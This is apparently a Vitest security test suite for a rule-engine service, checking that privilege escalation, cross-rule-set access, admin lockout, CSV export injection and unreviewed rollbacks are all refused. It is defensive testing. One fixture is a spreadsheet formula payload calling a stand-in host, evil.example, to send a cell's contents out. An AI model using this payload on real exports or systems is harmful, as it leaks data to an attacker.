import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addressKey, LoginThrottle } from "../server/auth/login-throttle.ts";
import type { CreatedApiKey } from "../shared/access.ts";
import { Problem } from "../shared/api.ts";
import { aCase } from "./helpers/fixtures.ts";
import { createTestApp, type TestApp } from "./helpers/test-app.ts";
import { aUser, passwordOf, signIn, withSession } from "./helpers/users.ts";

/**
 * Issue 10, access control and audit: each attack as the issue writes it, against the real HTTP
 * server. H2 (users:manage is no way to full control), M4 (rule-set limits apply everywhere),
 * M1 (nobody can lock the admin out), M2 (CSV injection), and the low findings on failed sign-in
 * names and rollbacks past four-eyes review.
 */

const ADMIN_PASSWORD = "test-admin-password";
const as = (key: string) => ({ authorization: `Bearer ${key}` });

function expectProblem(res: { status: number; body: any; headers: Headers }, status: number) {
  expect(res.status, JSON.stringify(res.body)).toBe(status);
  expect(res.headers.get("content-type")).toContain("application/problem+json");
  return Problem.parse(res.body);
}

async function aKey(
  app: TestApp,
  body: Record<string, unknown>,
  headers: Record<string, string> = {},
): Promise<CreatedApiKey> {
  const res = await app.call("POST", "/api/v1/api-keys", body, headers);
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body as CreatedApiKey;
}

describe("H2: a key holding users:manage cannot make itself an admin", () => {
  let app: TestApp;
  let usersOnly: CreatedApiKey;
  let usersOnlyLimited: CreatedApiKey;
  beforeAll(async () => {
    app = await createTestApp();
    usersOnly = await aKey(app, { name: "users-only", scopes: ["users:manage"] });
    usersOnlyLimited = await aKey(app, {
      name: "users-only-shipping",
      scopes: ["users:manage"],
      ruleSets: ["shipping-fee"],
    });
    await aUser(app, "victor-viewer", "viewer");
  }, 60_000);
  afterAll(() => app.close());

  const attackers = () => [
    ["a users:manage key", usersOnly.key],
    ["a users:manage key limited to one rule set", usersOnlyLimited.key],
  ];

  it("refuses to create an admin user (403), so nobody can sign in as one", async () => {
    for (const [, key] of attackers()) {
      expectProblem(
        await app.call(
          "POST",
          "/api/v1/users",
          { username: "mallory", password: "mallory-password-1", role: "admin" },
          as(key!),
        ),
        403,
      );
    }
    expect((await signIn(app, "mallory", "mallory-password-1")).status).toBe(401);
  });

  it("refuses to reset the admin's password (403): the admin's own password still works", async () => {
    for (const [, key] of attackers()) {
      expectProblem(
        await app.call("POST", "/api/v1/users/admin/password", { password: "taken-over-password" }, as(key!)),
        403,
      );
    }
    expect((await signIn(app, "admin", "taken-over-password")).status).toBe(401);
    expect((await signIn(app, "admin", ADMIN_PASSWORD)).status).toBe(200);
  });

  it("refuses to promote a user to admin (403)", async () => {
    for (const [, key] of attackers()) {
      expectProblem(await app.call("PATCH", "/api/v1/users/victor-viewer", { role: "admin" }, as(key!)), 403);
    }
    const users = (await app.call("GET", "/api/v1/users")).body.users as { username: string; role: string }[];
    expect(users.find((u) => u.username === "victor-viewer")?.role).toBe("viewer");
  });

  it("gives no role whose scopes the actor lacks, and touches no user of such a role", async () => {
    const viewerManager = await aKey(app, {
      name: "viewer-manager",
      scopes: ["users:manage", "rules:read", "audit:read"],
    });
    const make = (username: string, role: string) =>
      app.call("POST", "/api/v1/users", { username, password: passwordOf(username), role }, as(viewerManager.key));
    expect((await make("vera-viewer", "viewer")).status).toBe(201);
    expectProblem(await make("eddie-editor", "editor"), 403);
    expectProblem(
      await app.call("PATCH", "/api/v1/users/vera-viewer", { role: "publisher" }, as(viewerManager.key)),
      403,
    );
    await aUser(app, "pia-publisher", "publisher");
    expectProblem(
      await app.call(
        "POST",
        "/api/v1/users/pia-publisher/password",
        { password: "taken-over-password" },
        as(viewerManager.key),
      ),
      403,
    );
    expectProblem(
      await app.call("PATCH", "/api/v1/users/pia-publisher", { disabled: true }, as(viewerManager.key)),
      403,
    );
    // a users:manage key alone holds no role's scopes: it can make nobody
    expectProblem(
      await app.call(
        "POST",
        "/api/v1/users",
        { username: "nobody", password: passwordOf("nobody"), role: "viewer" },
        as(usersOnly.key),
      ),
      403,
    );
  });

  it("lets a principal limited to some rule sets manage no user at all, not even list them", async () => {
    expectProblem(await app.call("GET", "/api/v1/users", undefined, as(usersOnlyLimited.key)), 403);
  });

  it("still lets an admin create, promote and reset admins, and hand out the scopes no role holds", async () => {
    const admin = withSession(app, (await signIn(app, "admin", ADMIN_PASSWORD)).cookie);
    expect(
      (
        await app.call(
          "POST",
          "/api/v1/users",
          { username: "second-admin", password: passwordOf("second-admin"), role: "admin" },
          admin,
        )
      ).status,
    ).toBe(201);
    expect((await app.call("PATCH", "/api/v1/users/victor-viewer", { role: "admin" }, admin)).status).toBe(200);
    expect(
      (await app.call("POST", "/api/v1/users/second-admin/password", { password: "a-new-admin-password" }, admin))
        .status,
    ).toBe(204);
    await aKey(
      app,
      { name: "pipeline", scopes: ["rules:publish", "rules:publish-unreviewed", "rules:rollback-unreviewed"] },
      admin,
    );
  });

  it("lets no one but an admin turn four-eyes publishing off (it is worth rules:publish-unreviewed)", async () => {
    for (const [, key] of attackers()) {
      expectProblem(
        await app.call("PUT", "/api/v1/rule-sets/shipping-fee/settings", { fourEyes: false }, as(key!)),
        403,
      );
    }
    expect((await app.call("GET", "/api/v1/rule-sets/shipping-fee")).body).toMatchObject({ fourEyes: true });
    expect((await app.call("PUT", "/api/v1/rule-sets/shipping-fee/settings", { fourEyes: true })).status).toBe(200);
  });

  it("lets no one but an admin hand out rules:publish-unreviewed or rules:rollback-unreviewed", async () => {
    const keyManager = await aKey(app, { name: "key-manager", scopes: ["keys:manage", "rules:read", "rules:publish"] });
    for (const scope of ["rules:publish-unreviewed", "rules:rollback-unreviewed"]) {
      expectProblem(
        await app.call("POST", "/api/v1/api-keys", { name: `wants-${scope}`, scopes: [scope] }, as(keyManager.key)),
        403,
      );
    }
  });
});

describe("M4: a key limited to one rule set sees only that rule set", () => {
  let app: TestApp;
  let limited: CreatedApiKey;
  beforeAll(async () => {
    app = await createTestApp();
    limited = await aKey(app, {
      name: "shipping-team",
      scopes: ["rules:read", "audit:read", "keys:manage"],
      ruleSets: ["shipping-fee"],
    });
    for (const ruleSet of ["shipping-fee", "refund-eligibility", "timeouts"])
      expect((await app.decide(ruleSet, aCase())).status).toBe(200);
    await aUser(app, "someone", "viewer");
  }, 60_000);
  afterAll(() => app.close());

  it("reads only its rule set's decisions, and asking for another rule set is 403", async () => {
    const all = (await app.call("GET", "/api/v1/decision-log")).body.entries as { ruleSet: string }[];
    expect(new Set(all.map((e) => e.ruleSet))).toEqual(new Set(["shipping-fee", "refund-eligibility", "timeouts"]));
    const mine = await app.call("GET", "/api/v1/decision-log", undefined, as(limited.key));
    expect(mine.status).toBe(200);
    expect(mine.body.entries.length).toBeGreaterThan(0);
    expect(mine.body.entries.every((e: { ruleSet: string }) => e.ruleSet === "shipping-fee")).toBe(true);
    expectProblem(
      await app.call("GET", "/api/v1/decision-log?ruleSet=refund-eligibility", undefined, as(limited.key)),
      403,
    );
  });

  it("reads only its rule set's analytics: another rule set's stats are 403", async () => {
    expect((await app.call("GET", "/api/v1/rule-sets/shipping-fee/stats", undefined, as(limited.key))).status).toBe(
      200,
    );
    expectProblem(await app.call("GET", "/api/v1/rule-sets/refund-eligibility/stats", undefined, as(limited.key)), 403);
  });

  it("analyses, reads invariants of and replays only its rule set: another rule set's are 403, nothing started", async () => {
    const mine = await app.call("POST", "/api/v1/rule-sets/shipping-fee/analysis", {}, as(limited.key));
    expect(mine.status).toBe(200);
    expect(mine.body.complete).toBe(true);
    expect(
      (await app.call("GET", "/api/v1/rule-sets/shipping-fee/invariants", undefined, as(limited.key))).status,
    ).toBe(200);
    for (const [method, path, body] of [
      ["POST", "/api/v1/rule-sets/refund-eligibility/analysis", {}],
      ["GET", "/api/v1/rule-sets/refund-eligibility/invariants", undefined],
      ["POST", "/api/v1/rule-sets/refund-eligibility/impact", {}],
    ] as const)
      expectProblem(await app.call(method, path, body, as(limited.key)), 403);
  });

  it("reads only its rule set's audit entries: no other rule set, user, key or sign-in", async () => {
    const mine = await app.call("GET", "/api/v1/audit", undefined, as(limited.key));
    expect(mine.status).toBe(200);
    expect(mine.body.entries.length).toBeGreaterThan(0);
    expect(
      mine.body.entries.every(
        (e: { entity: string; entityKey: string }) => e.entity === "rule-set" && e.entityKey === "shipping-fee",
      ),
    ).toBe(true);
    const csv = await app.call("GET", "/api/v1/audit?format=csv", undefined, as(limited.key));
    expect(csv.body).not.toMatch(/refund-eligibility|someone|api-key\.create/);
    expectProblem(await app.call("GET", "/api/v1/audit?entity=user", undefined, as(limited.key)), 403);
    expectProblem(
      await app.call("GET", "/api/v1/audit?entity=rule-set&entityKey=timeouts", undefined, as(limited.key)),
      403,
    );
  });

  it("lists only its rule set", async () => {
    const res = await app.call("GET", "/api/v1/rule-sets", undefined, as(limited.key));
    expect(res.body.ruleSets.map((r: { key: string }) => r.key)).toEqual(["shipping-fee"]);
    expect((await app.call("GET", "/api/v1/rule-sets")).body.ruleSets).toHaveLength(4);
  });

  it("with keys:manage, lists and revokes only keys limited to its rule set", async () => {
    const other = await aKey(app, { name: "refund-team", scopes: ["rules:read"], ruleSets: ["refund-eligibility"] });
    const unlimited = await aKey(app, { name: "everything-reader", scopes: ["rules:read"] });
    const mineToo = await aKey(app, { name: "shipping-reader", scopes: ["rules:read"], ruleSets: ["shipping-fee"] });
    const listed = (await app.call("GET", "/api/v1/api-keys", undefined, as(limited.key))).body.apiKeys as {
      id: string;
      ruleSets: string[] | null;
    }[];
    expect(listed.map((k) => k.id).sort()).toEqual([limited.id, mineToo.id].sort());
    expectProblem(await app.call("DELETE", `/api/v1/api-keys/${other.id}`, undefined, as(limited.key)), 403);
    expectProblem(await app.call("DELETE", `/api/v1/api-keys/${unlimited.id}`, undefined, as(limited.key)), 403);
    expect((await app.call("GET", "/api/v1/rule-sets", undefined, as(other.key))).status).toBe(200);
    expect((await app.call("DELETE", `/api/v1/api-keys/${mineToo.id}`, undefined, as(limited.key))).status).toBe(204);
  });
});

describe("M1: nobody can lock the admin out (behind a trusted proxy, so that each test has its own client address)", () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await createTestApp({ trustProxy: true });
  });
  afterAll(() => app.close());

  const from = (ip: string) => ({ "x-forwarded-for": `${ip}, 10.0.0.1` });

  it("lets the admin sign in from a new address after five wrong sign-ins for admin elsewhere", async () => {
    for (let i = 0; i < 5; i++)
      expect((await signIn(app, "admin", "a-wrong-password", from("198.51.100.10"))).status).toBe(401);
    expect((await signIn(app, "admin", ADMIN_PASSWORD, from("198.51.100.11"))).status).toBe(200);
  }, 120_000);

  it("lets the admin in from a new address after 50 wrong sign-ins as admin, ADMIN and ' Admin ', and refuses the attacker's address", async () => {
    const names = ["admin", "ADMIN", " Admin "];
    const statuses: number[] = [];
    for (let i = 0; i < 50; i++)
      statuses.push((await signIn(app, names[i % 3]!, "a-wrong-password", from("203.0.113.20"))).status);
    // every spelling is one account: five guesses, then refused without hashing
    expect(statuses.slice(0, 5)).toEqual(Array(5).fill(401));
    expect(statuses.slice(5)).toEqual(Array(45).fill(429));
    const attacker = await signIn(app, "admin", ADMIN_PASSWORD, from("203.0.113.20"));
    expect(attacker.status).toBe(429);
    expect(Number(attacker.headers.get("retry-after"))).toBeGreaterThan(0);
    const admin = await signIn(app, "admin", ADMIN_PASSWORD, from("198.51.100.12"));
    expect(admin.status).toBe(200);
    expect(admin.cookie).toMatch(/^asr_session=/);
  }, 180_000);

  it("slows an account attacked from many addresses down, but never refuses its right password", async () => {
    // on the service's database: on PostgreSQL, the counts every instance shares
    const throttle = new LoginThrottle({ db: app.ctx.db, slowDownAfter: 3, slowDownMs: 150 });
    for (let i = 0; i < 3; i++) await throttle.attempt("Admin", `192.0.2.${i}`);
    const started = performance.now();
    await throttle.attempt("admin", "192.0.2.99");
    expect(performance.now() - started).toBeGreaterThanOrEqual(140);
    await throttle.succeeded("admin", "192.0.2.99");
  });

  it("counts an IPv6 client's whole /64 as one address", () => {
    expect(addressKey("2001:db8:1:2:aaaa::1")).toBe(addressKey("2001:0db8:0001:0002:ffff:1:2:3"));
    expect(addressKey("2001:db8:1:2::1")).not.toBe(addressKey("2001:db8:1:3::1"));
    expect(addressKey("::1")).toBe("0:0:0:0::/64");
    expect(addressKey("198.51.100.7")).toBe("198.51.100.7");
  });
});

describe("M2 and failed sign-in names: the audit log's export and who reads typed names", () => {
  const payload = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  let app: TestApp;
  let viewer: Record<string, string>;
  let admin: Record<string, string>;
  beforeAll(async () => {
    app = await createTestApp();
    await aUser(app, "vicky-viewer", "viewer");
    viewer = withSession(app, (await signIn(app, "vicky-viewer")).cookie);
    admin = withSession(app, (await signIn(app, "admin", ADMIN_PASSWORD)).cookie);
    // no credentials: a sign-in attempt with the payload as its user name
    expect((await signIn(app, payload, "whatever")).status).toBe(401);
    expect((await signIn(app, "my-secret-password-typed-as-name", "whatever")).status).toBe(401);
  }, 60_000);
  afterAll(() => app.close());

  it("escapes the formula in the audit CSV export, so a spreadsheet shows it as text", async () => {
    const res = await app.call("GET", "/api/v1/audit?format=csv&action=sign-in.failed", undefined, admin);
    expect(res.status).toBe(200);
    const csv = res.body as string;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    // no cell starts with the formula: neither bare nor inside quotes
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it("shows the names typed at failed sign-ins to an admin only", async () => {
    const forAdmin = await app.call("GET", "/api/v1/audit?action=sign-in.failed", undefined, admin);
    expect(forAdmin.body.entries.map((e: { actor: string }) => e.actor)).toEqual([
      payload,
      "my-secret-password-typed-as-name",
    ]);

    const forViewer = await app.call("GET", "/api/v1/audit?action=sign-in.failed", undefined, viewer);
    expect(forViewer.status).toBe(200);
    expect(forViewer.body.entries).toHaveLength(2);
    expect(
      forViewer.body.entries.every(
        (e: { actor: string; entityKey: string }) => e.actor === "(hidden)" && e.entityKey === "(hidden)",
      ),
    ).toBe(true);
    expect(JSON.stringify(forViewer.body)).not.toContain("my-secret-password");
    const csv = await app.call("GET", "/api/v1/audit?format=csv", undefined, viewer);
    expect(csv.body).not.toContain("my-secret-password");
    // a filter on the name would tell whether someone typed it
    const probe = await app.call("GET", "/api/v1/audit?actor=my-secret-password-typed-as-name", undefined, viewer);
    expect(probe.body.entries).toEqual([]);
    const probeKey = await app.call(
      "GET",
      "/api/v1/audit?entity=user&entityKey=my-secret-password-typed-as-name",
      undefined,
      viewer,
    );
    expect(probeKey.body.entries).toEqual([]);
  });
});

describe("rollback follows the rule set's four-eyes setting", () => {
  let app: TestApp;
  let publisher: Record<string, string>;
  let editor: Record<string, string>;
  let reviewer: Record<string, string>;
  beforeAll(async () => {
    app = await createTestApp();
    await Promise.all([
      aUser(app, "pat-publisher", "publisher"),
      aUser(app, "ed-editor", "editor"),
      aUser(app, "rita-reviewer", "publisher"),
    ]);
    publisher = withSession(app, (await signIn(app, "pat-publisher")).cookie);
    editor = withSession(app, (await signIn(app, "ed-editor")).cookie);
    reviewer = withSession(app, (await signIn(app, "rita-reviewer")).cookie);
    // version 2 of shipping-fee, published from git (the test key may publish unreviewed)
    const detail = (await app.call("GET", "/api/v1/rule-sets/shipping-fee")).body;
    const rules = detail.draft.rules.map((r: any, i: number) =>
      i === 0 ? { ...r, description: `${r.description} (v2)` } : r,
    );
    expect(
      (await app.call("PUT", "/api/v1/rule-sets/shipping-fee/draft", { revision: detail.draft.revision, rules }))
        .status,
    ).toBe(200);
    expect((await app.call("POST", "/api/v1/rule-sets/shipping-fee/publish", { note: "v2" })).body.version).toBe(2);
  }, 60_000);
  afterAll(() => app.close());

  const rollBack = (version: number, headers: Record<string, string>) =>
    app.call("POST", "/api/v1/rule-sets/shipping-fee/rollback", { version }, headers);
  const lastAudit = async () =>
    (await app.call("GET", "/api/v1/audit?entity=rule-set&entityKey=shipping-fee")).body.entries.at(-1);

  it("refuses a rollback without review on a four-eyes rule set (409 review-required), by a publisher or a publishing key", async () => {
    const problem = expectProblem(await rollBack(1, publisher), 409);
    expect(problem.type).toMatch(/review-required$/);
    const publishingKey = await aKey(app, {
      name: "publishing-key",
      scopes: ["rules:read", "rules:publish"],
      ruleSets: ["shipping-fee"],
    });
    expectProblem(await rollBack(1, as(publishingKey.key)), 409);
    expect((await app.call("GET", "/api/v1/rule-sets/shipping-fee")).body.active.version).toBe(2);
  });

  it("rolls back once another publisher approved the draft holding that version's rules", async () => {
    const v1 = (await app.call("GET", "/api/v1/rule-sets/shipping-fee/versions/1")).body;
    const detail = (await app.call("GET", "/api/v1/rule-sets/shipping-fee", undefined, editor)).body;
    const draft = {
      revision: detail.draft.revision,
      rules: v1.rules,
      defaults: v1.defaults,
      conditions: v1.conditions,
    };
    expect((await app.call("PUT", "/api/v1/rule-sets/shipping-fee/draft", draft, editor)).status).toBe(200);
    expect(
      (await app.call("POST", "/api/v1/rule-sets/shipping-fee/submit", { note: "roll back to v1" }, editor)).status,
    ).toBe(200);
    expectProblem(await rollBack(1, publisher), 409);
    expect((await app.call("POST", "/api/v1/rule-sets/shipping-fee/review", { approve: true }, reviewer)).status).toBe(
      200,
    );
    const res = await rollBack(1, publisher);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.version).toBe(3);
    expect(await lastAudit()).toMatchObject({
      action: "rollback",
      actor: "user:pat-publisher",
      detail: { rolledBackFrom: 1, review: { approvedBy: "user:rita-reviewer" } },
    });
  });

  it("rolls back at once with rules:rollback-unreviewed, and the audit marks it an emergency", async () => {
    const onCall = await aKey(app, {
      name: "on-call",
      scopes: ["rules:read", "rules:publish", "rules:rollback-unreviewed"],
      ruleSets: ["shipping-fee"],
    });
    const res = await rollBack(2, as(onCall.key));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.version).toBe(4);
    expect(await lastAudit()).toMatchObject({
      action: "rollback",
      actor: "api-key:on-call",
      detail: { rolledBackFrom: 2, review: "unreviewed-in-app", emergency: true },
    });
  });

  it("rolls back without review where four-eyes is off", async () => {
    expect((await app.call("PUT", "/api/v1/rule-sets/shipping-fee/settings", { fourEyes: false })).status).toBe(200);
    const res = await rollBack(1, publisher);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const audit = await lastAudit();
    expect(audit).toMatchObject({ action: "rollback", detail: { review: "not-required" } });
    expect(audit.detail.emergency).toBeUndefined();
  });
});
